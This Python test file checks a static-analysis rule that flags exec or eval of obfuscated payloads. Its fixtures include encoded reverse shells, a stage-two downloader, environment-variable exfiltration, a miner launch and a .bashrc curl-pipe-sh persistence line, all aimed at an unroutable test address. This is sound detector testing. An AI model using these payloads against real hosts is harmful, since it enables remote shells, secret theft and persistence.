# Tests for py-payload-exec-signature: `warden test-rules rulesets/payloads`.
# Every payload points at 192.0.2.1 (TEST-NET-1, never routed) and port 4444: inert.
import base64
import binascii
import builtins
import codecs
import io
import lzma
import zlib
from base64 import b64decode as unpack

import requests
from PIL import Image

# import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);...;pty.spawn("/bin/sh")
SHELL_B64 = "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTkyLjAuMi4xIiw0NDQ0KSk7b3MuZHVwMihzLmZpbGVubygpLDApO29zLmR1cDIocy5maWxlbm8oKSwxKTtvcy5kdXAyKHMuZmlsZW5vKCksMik7cHR5LnNwYXduKCIvYmluL3NoIik="
# the same, zlib-compressed, base64-encoded, reversed
SHELL_PACKED = "==AWxMmfXM4XrOXOaD2zpbpk/C3xr6l6XvLaCQ81TmeQi7oWRZQIv3OjkLvOe2gxAw6UYGlSMAQP4gP6zQttiWrU+XiRXL7K5l/t8m3vWD+rvZAVFbCjm2RrYgHpu1ioQVSXi8aRMADhKEUjtxJe"
SHELL_HEX = "696d706f727420736f636b65742c6f732c7074793b733d736f636b65742e736f636b657428293b732e636f6e6e6563742828223139322e302e322e31222c3434343429293b6f732e6475703228732e66696c656e6f28292c30293b6f732e6475703228732e66696c656e6f28292c31293b6f732e6475703228732e66696c656e6f28292c32293b7074792e737061776e28222f62696e2f73682229"
SHELL_ROT13 = 'vzcbeg fbpxrg,bf,cgl;f=fbpxrg.fbpxrg();f.pbaarpg(("192.0.2.1",4444));bf.qhc2(f.svyrab(),0);bf.qhc2(f.svyrab(),1);bf.qhc2(f.svyrab(),2);cgl.fcnja("/ova/fu")'
SHELL_B32 = "NFWXA33SOQQHG33DNNSXILDPOMWHA5DZHNZT243PMNVWK5BOONXWG23FOQUCSO3TFZRW63TOMVRXIKBIEIYTSMROGAXDELRREIWDINBUGQUSSO3POMXGI5LQGIUHGLTGNFWGK3TPFAUSYMBJHNXXGLTEOVYDEKDTFZTGS3DFNZXSQKJMGEUTW33TFZSHK4BSFBZS4ZTJNRSW43ZIFEWDEKJ3OB2HSLTTOBQXO3RIEIXWE2LOF5ZWQIRJ"
SHELL_LZMA_B85 = "{Wp48S^xk9=GL@E0stWa761SMbT8$j-~gHcYh3^|n@VT6Qap3_sww@YBR?EHESNAzLS2XaqfFfMFCnZx*b3CI#;S(yj2G-bhIqFnHVVDSV0R<^o-=g(B$g}2LqzPZgNP%^sYMPAJTLK-JP1tO3glyIBE_lQ2$4!l|6<_@XoFRJ;{X5v-KeG)EG`F>00D;qn*jg-pVb4FvBYQl0ssI200dcD"

# import urllib.request; exec(urllib.request.urlopen("http://192.0.2.1/stage2.py").read())
STAGE2 = "eJzLzC3ILypRKC3KyclM0itKLSxNLS7hSq1ITdZAFdMDcvMLUvM0lDJKSgqs9PUNLY30DPSM9Az1i0sS01ON9AoqlTSBqhNTNDQ1uQCkTh3I"
# requests.post("http://192.0.2.1/c", data=json.dumps(dict(os.environ)), timeout=5)
ENV_DUMP = "aW1wb3J0IGpzb24sIG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KCJodHRwOi8vMTkyLjAuMi4xL2MiLCBkYXRhPWpzb24uZHVtcHMoZGljdChvcy5lbnZpcm9uKSksIHRpbWVvdXQ9NSkK"
# subprocess.Popen(["/tmp/.x/xmrig", "-o", "stratum+tcp://192.0.2.1:4444", ...])
MINER = "eJzLzC3ILypRKC5NKijKT04tLuZCMPUC8gtS8zSilfRLcgv09Sr0K3KLMtOVdBSUdPNBZHFJUWJJaa52SXKBlb6+oaWRnoGekZ6hlQkQgFWVgsjyxJyc1BIwXzclPy+xJFU3J7UsNQckYqgUq8kFADxaJ9k="
# open(os.path.expanduser("~/.bashrc"), "a").write("curl -s http://192.0.2.1/x.sh | sh\n")
BASHRC = "aW1wb3J0IG9zCm9wZW4ob3MucGF0aC5leHBhbmR1c2VyKCJ+Ly5iYXNocmMiKSwgImEiKS53cml0ZSgiY3VybCAtcyBodHRwOi8vMTkyLjAuMi4xL3guc2ggfCBzaFxuIikK"
# os.system("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
BASH_TCP = "eJzLzC3ILypRyC/myi/WK64sLknN1VBKSizOUNDNVLBTU9BPSS3TL0ku0De0NNIz0DPSM9Q3AQIFAzs1QyVNLgCN4xGk"

# the reverse shell XORed with 0x42, base64-encoded
SHELL_XOR = 'Ky8yLTA2YjEtISknNm4tMW4yNjt5MX8xLSEpJzZsMS0hKSc2amt5MWwhLSwsJyE2ampgc3twbHJscGxzYG52dnZ2a2t5LTFsJjcycGoxbCQrLicsLWprbnJreS0xbCY3MnBqMWwkKy4nLC1qa25za3ktMWwmNzJwajFsJCsuJywtamtucGt5MjY7bDEyIzUsamBtICssbTEqYGs='

# print('hello') and a 1x1 PNG
HELLO = "cHJpbnQoJ2hlbGxvJyk="
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def base64_module_constant():
    # ruleid: py-payload-exec-signature
    exec(base64.b64decode(SHELL_B64))


def reversed_base64_zlib():
    # ruleid: py-payload-exec-signature
    exec(zlib.decompress(unpack(SHELL_PACKED[::-1])))


def hex_then_decode():
    # ruleid: py-payload-exec-signature
    exec(bytes.fromhex(SHELL_HEX).decode())


def unhexlify():
    # ruleid: py-payload-exec-signature
    exec(binascii.unhexlify(SHELL_HEX))


def rot13():
    # ruleid: py-payload-exec-signature
    exec(codecs.decode(SHELL_ROT13, "rot13"))


def base32():
    # ruleid: py-payload-exec-signature
    exec(base64.b32decode(SHELL_B32))


def lzma_base85():
    # ruleid: py-payload-exec-signature
    exec(lzma.decompress(base64.b85decode(SHELL_LZMA_B85)))


def split_and_joined():
    parts = [SHELL_B64[:60], SHELL_B64[60:120], SHELL_B64[120:]]
    # ruleid: py-payload-exec-signature
    exec(base64.b64decode("".join(parts)))


def concatenated_locals():
    head = "aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTkyLjAuMi4xIiw0NDQ0KSk7"
    tail = "b3MuZHVwMihzLmZpbGVubygpLDApO29zLmR1cDIocy5maWxlbm8oKSwxKTtvcy5kdXAyKHMuZmlsZW5vKCksMik7cHR5LnNwYXduKCIvYmluL3NoIik="
    code = base64.b64decode(head + tail).decode()
    # ruleid: py-payload-exec-signature
    exec(code)


def chr_codes():
    # ruleid: py-payload-exec-signature
    exec("".join(chr(c) for c in [111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 34, 98, 97, 115, 104, 32, 45, 105, 32, 62, 38, 32, 47, 100, 101, 118, 47, 116, 99, 112, 47, 49, 57, 50, 46, 48, 46, 50, 46, 49, 47, 52, 52, 52, 52, 32, 48, 62, 38, 49, 34, 41]))


def download_stage():
    # ruleid: py-payload-exec-signature
    exec(zlib.decompress(base64.b64decode(STAGE2)))


def environment_exfiltration():
    # ruleid: py-payload-exec-signature
    exec(base64.b64decode(ENV_DUMP))


def miner():
    # ruleid: py-payload-exec-signature
    exec(zlib.decompress(base64.b64decode(MINER)))


def persistence():
    # ruleid: py-payload-exec-signature
    exec(base64.b64decode(BASHRC))


def shell_in_python():
    # ruleid: py-payload-exec-signature
    exec(zlib.decompress(base64.b64decode(BASH_TCP)))


def through_builtins():
    # ruleid: py-payload-exec-signature
    builtins.exec(base64.b64decode(SHELL_B64))


def compiled_first():
    # ruleid: py-payload-exec-signature
    exec(compile(base64.b64decode(SHELL_B64), "<payload>", "exec"))


def compile_by_keyword():
    # ruleid: py-payload-exec-signature
    code = compile(source=base64.b64decode(SHELL_B64), filename="<payload>", mode="exec")
    return code


def evaluated():
    # ruleid: py-payload-exec-signature
    eval(compile(unpack(SHELL_B64), "<payload>", "exec"))


def multi_line():
    # ruleid: py-payload-exec-signature
    exec(
        zlib.decompress(
            unpack(SHELL_PACKED[::-1])
        )
    )


def through_dunder_import():
    # ruleid: py-payload-exec-signature
    exec(__import__("base64").b64decode(SHELL_B64))


def reversed_join():
    # ruleid: py-payload-exec-signature
    exec(zlib.decompress(base64.b64decode("".join(reversed(SHELL_PACKED)))))


def xor_key():
    # ruleid: py-payload-exec-signature
    exec(bytes(b ^ 0x42 for b in base64.b64decode(SHELL_XOR)))


def built_with_augmented_assignment():
    code = SHELL_B64[:50]
    code += SHELL_B64[50:]
    # ruleid: py-payload-exec-signature
    exec(base64.b64decode(code))


# Known gaps: values Warden does not compute statically.
def default_parameter(code=SHELL_B64):
    # Parameters are not followed to their defaults (nor to the arguments of calls).
    # todoruleid: py-payload-exec-signature
    exec(base64.b64decode(code))


def decode(text):
    return base64.b64decode(text)


def through_a_helper():
    # Calls of the file's own functions are not evaluated.
    # todoruleid: py-payload-exec-signature
    exec(decode(SHELL_B64))


def formatted():
    # f-strings and str.format are not evaluated.
    # todoruleid: py-payload-exec-signature
    exec(base64.b64decode(f"{SHELL_B64}"))
    # todoruleid: py-payload-exec-signature
    exec(base64.b64decode("{}{}".format(SHELL_B64[:40], SHELL_B64[40:])))


def through_getattr():
    # Reflection is out of reach of name resolution.
    # todoruleid: py-payload-exec-signature
    getattr(builtins, "exec")(base64.b64decode(SHELL_B64))


def imported_constant():
    from .payload_constants import PAYLOAD

    # Names imported from another module are not followed into it.
    # todoruleid: py-payload-exec-signature
    exec(base64.b64decode(PAYLOAD))


class Loader:
    payload = SHELL_B64

    def load(self):
        # Attributes are not followed to their assignments.
        # todoruleid: py-payload-exec-signature
        exec(base64.b64decode(self.payload))


def concatenated_literals():
    # ruleid: py-payload-exec-signature
    exec("import os; os.system('bash -i >& /dev/" + "tcp/192.0.2.1/4444 0>&1')")


# A literal: its escapes hide it from the file-level yara.* checks.
def escaped_literal():
    # ruleid: py-payload-exec-signature
    exec("import os; os.system('\x62\x61\x73\x68 -i >& /dev/tcp/192.0.2.1/4444 0>&1')")


# Harmless decoded values.
def harmless_code():
    # ok: py-payload-exec-signature
    exec(base64.b64decode(HELLO))


def image():
    # ok: py-payload-exec-signature
    return Image.open(io.BytesIO(base64.b64decode(PIXEL)))


def decoded_not_run():
    # ok: py-payload-exec-signature
    print(base64.b64decode(SHELL_B64))


# Computed values: nothing to decode statically (py-exec-dynamic-code reports these).
def parameter(blob):
    # ok: py-payload-exec-signature
    exec(base64.b64decode(blob))


def downloaded(url):
    # ok: py-payload-exec-signature
    exec(base64.b64decode(requests.get(url, timeout=10).text))


# The payload as text that does not run: a docstring, a comment.
def documented():
    """Attackers write exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTkyLjAuMi4xIiw0NDQ0KSk7b3MuZHVwMihzLmZpbGVubygpLDApO29zLmR1cDIocy5maWxlbm8oKSwxKTtvcy5kdXAyKHMuZmlsZW5vKCksMik7cHR5LnNwYXduKCIvYmluL3NoIik="))."""
    # exec(base64.b64decode(SHELL_B64))
    # ok: py-payload-exec-signature
    return None


class Model:
    def exec(self, code):
        return code

    def run(self):
        # A method named exec is not the builtin.
        # ok: py-payload-exec-signature
        self.exec(base64.b64decode(SHELL_B64))
